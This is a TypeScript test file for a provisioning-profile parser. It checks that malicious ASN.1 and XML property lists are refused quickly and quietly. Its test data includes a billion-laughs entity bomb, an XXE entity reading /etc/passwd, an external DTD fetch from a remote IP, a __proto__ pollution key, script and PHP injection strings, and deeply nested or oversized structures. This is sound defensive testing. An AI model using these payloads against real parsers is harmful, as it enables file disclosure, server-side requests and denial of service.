import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ResealError } from '../../src/domain/errors.js';
import { parseXmlPropertyList } from '../../src/mac/property-list.js';
import { inspectProfile, verifyProfile } from '../../src/profile/index.js';

/** Longest that a refusal may take, in milliseconds. */
const PROMPTLY = 5_000;
const bytes = (...parts: readonly (string | readonly number[])[]): Uint8Array =>
  Buffer.concat(parts.map((one) => (typeof one === 'string' ? Buffer.from(one, 'latin1') : Uint8Array.from(one))));
const many = (times: number, ...piece: readonly number[]): readonly number[] =>
  Array.from({ length: times * piece.length }, (_, at) => piece[at % piece.length] ?? 0);

/** Whatever a library makes of it, nothing goes to the console: it would be in the logs of agents. */
const printed: string[] = [];
beforeEach(() => {
  printed.length = 0;
  for (const name of ['error', 'warn', 'log'] as const)
    vi.spyOn(console, name).mockImplementation((...words: unknown[]) => void printed.push(words.join(' ')));
});
afterEach(() => vi.restoreAllMocks());

describe('ASN.1 that is made to do harm is NOT_A_PROFILE, at once and in words (T5)', () => {
  it.each([
    ['structures of indefinite length in each other, a hundred thousand', bytes(many(100_000, 0x30, 0x80), many(200_000, 0))],
    ['structures of indefinite length that never end', bytes(many(100_000, 0x30, 0x80))],
    ['octet strings in each other', bytes([0x30, 0x80], many(100_000, 0x24, 0x80))],
    ['structures of definite length in each other', nested(20_000)],
    ['a length of four gigabytes', bytes([0x30, 0x84, 0xff, 0xff, 0xff, 0xff, 0x06, 0x01, 0x2a])],
    ['a length of a hundred bytes', bytes([0x30, 0xe4], many(200, 0xff))],
    ['a length that is reserved', bytes([0x30, 0xff, 0x00])],
    ['a structure longer than the one around it', bytes([0x30, 0x06, 0x30, 0x7f, 0x02, 0x01, 0x01, 0x00])],
    ['a million values', bytes([0x30, 0x83, 0x1e, 0x84, 0x80], many(1_000_000, 0x05, 0x00))],
    ['a tag of a thousand bytes', bytes([0x30, 0x80, 0x1f], many(1_000, 0xff), [0x01, 0x00, 0x00, 0x00])],
    ['an object identifier of a hundred kilobytes', bytes([0x30, 0x83, 0x01, 0x86, 0xa4, 0x06, 0x83, 0x01, 0x86, 0xa0], many(99_999, 0xff), [0x01])],
    ['nothing but a header', bytes([0x30])],
    ['an empty structure', bytes([0x30, 0x00])],
    ['an end of contents alone', bytes([0x30, 0x80, 0x00, 0x00])],
  ])('%s', (_what, file) => {
    for (const read of [inspectProfile, verifyProfile]) {
      const began = performance.now();
      const error = refusal(() => read(file, { roots: [] }));
      expect(performance.now() - began).toBeLessThan(PROMPTLY);
      expect(error).toMatchObject({ code: 'NOT_A_PROFILE', message: expect.not.stringMatching(/call stack|Cannot read/) });
    }
    expect(printed).toEqual([]);
  });
}); // prettier-ignore

const LAUGHS = `<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${'abcdefghij'[n + 1] ?? ''} "${`&${'abcdefghij'[n] ?? ''};`.repeat(10)}">`).join('')}]>`;
const WITHIN = (text: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict><key>UUID</key>${text}</dict></plist>`;

describe('XML that is made to do harm, as the contents of a profile (T5)', () => {
  it.each([
    ['entities of entities, ten billion letters in all', `${LAUGHS}<plist><string>&j;</string></plist>`, 'declares entities of its own'],
    ['an entity from a file', '<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY x SYSTEM "file:///etc/passwd">]><plist><string>&x;</string></plist>', 'declares entities of its own'],
    ['an entity from a parameter', '<?xml version="1.0"?><!DOCTYPE plist SYSTEM "http://198.51.100.1/x.dtd" [<!ENTITY % p SYSTEM "http://198.51.100.1/">%p;]><plist/>', 'declares entities of its own'],
    ['an entity that nobody declares', WITHIN('<string>&nobody;</string>'), 'refers to an entity'],
    ['a reference to no character', WITHIN('<string>&#0;</string>'), 'refers to an entity'],
    ['a reference behind the last character', WITHIN('<string>&#x110000;</string>'), 'refers to an entity'],
    ['arrays in arrays, a hundred thousand', WITHIN(`${'<array>'.repeat(100_000)}${'</array>'.repeat(100_000)}`), 'nests more than 64 levels deep'],
    ['arrays that never end', WITHIN('<array>'.repeat(100_000)), 'nests more than 64 levels deep'],
    ['dictionaries in dictionaries', WITHIN(`${'<dict><key>a</key>'.repeat(5_000)}<true/>${'</dict>'.repeat(5_000)}`), 'nests more than 64 levels deep'],
    ['a key that is a prototype', WITHIN('<true/><key>__proto__</key><dict><key>polluted</key><true/></dict>'), '__proto__'],
    ['tags that cross', WITHIN('<array><string></array></string>'), 'ends array where something else is open'],
    ['a comment in a comment', WITHIN('<!-- <!-- --> --><true/>'), 'a comment in a comment'],
    ['a comment that never ends', WITHIN('<!-- '), 'ends before it should'],
    ['two lists', `${WITHIN('<true/>')}<plist></plist>`, 'something follows the property list'],
    ['an element of HTML', WITHIN('<script src="x">alert(1)</script>'), 'which is in no property list'],
    ['an instruction', WITHIN('<?php system("id") ?>'), 'which is in no property list'],
    ['bytes that are no UTF-8', WITHIN('<string>\ufffd</string>'), 'no UTF-8'],
    ['a number in place of a date', WITHIN('<date>99</date>'), ''],
  ])('%s', (_what, text, words) => {
    const began = performance.now();
    const error = refusal(() => inspectProfile(unsignedProfile(text), { roots: [] }).error);
    expect(performance.now() - began).toBeLessThan(PROMPTLY);
    // Nobody has signed it, which is what counts; the contents are looked at all the same.
    expect(error).toBeInstanceOf(ResealError);
    expect(error).toMatchObject({ code: 'PROFILE_UNTRUSTED' });
    if (words !== '') expect(() => parseXmlPropertyList(text)).toThrow(words);
    expect(printed).toEqual([]);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('what Apple and Xcode write is read as before: declaration, DOCTYPE, comments, CDATA, references', () => {
    expect(parseXmlPropertyList(readFileSync(join(import.meta.dirname, '../fuzz/corpus/small.plist'), 'utf8'))).toMatchObject({
      CFBundleIdentifier: 'com.acme.courier',
      CFBundleName: 'Acme & Co & A',
      UIDeviceFamily: [1, 2.5, true, Uint8Array.of(0, 1, 2), new Date('2026-11-29T09:14:07Z')],
    });
  });
}); // prettier-ignore

function refusal(work: () => unknown): unknown {
  try {
    return work();
  } catch (error) {
    return error;
  }
}

function nested(levels: number): Uint8Array {
  let inner: Uint8Array = Uint8Array.of(0x05, 0x00);
  const headers: Uint8Array[] = [];
  for (let level = 0, length = inner.length; level < levels; level += 1) {
    const header = Uint8Array.of(0x30, 0x83, length >> 16, (length >> 8) & 0xff, length & 0xff);
    headers.push(header);
    length += header.length;
  }
  inner = Buffer.concat([...headers.reverse(), inner]);
  return inner;
}

/** A CMS file without a signer, with the text inside. */
function unsignedProfile(text: string): Uint8Array {
  const data = [0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07];
  const der = (tag: number, ...parts: readonly Uint8Array[]): Uint8Array => {
    const content = Buffer.concat(parts);
    const hexadecimal = content.length.toString(16);
    const length = Buffer.from(hexadecimal.length % 2 === 0 ? hexadecimal : `0${hexadecimal}`, 'hex');
    return Buffer.concat([Uint8Array.from(content.length < 0x80 ? [tag, content.length] : [tag, 0x80 | length.length, ...length]), content]);
  };
  const inside = der(0x30, Uint8Array.from([...data, 0x01]), der(0xa0, der(0x04, Buffer.from(text, 'utf8'))));
  return der(0x30, Uint8Array.from([...data, 0x02]), der(0xa0, der(0x30, Uint8Array.of(0x02, 0x01, 0x01), der(0x31), inside, der(0x31))));
} // prettier-ignore
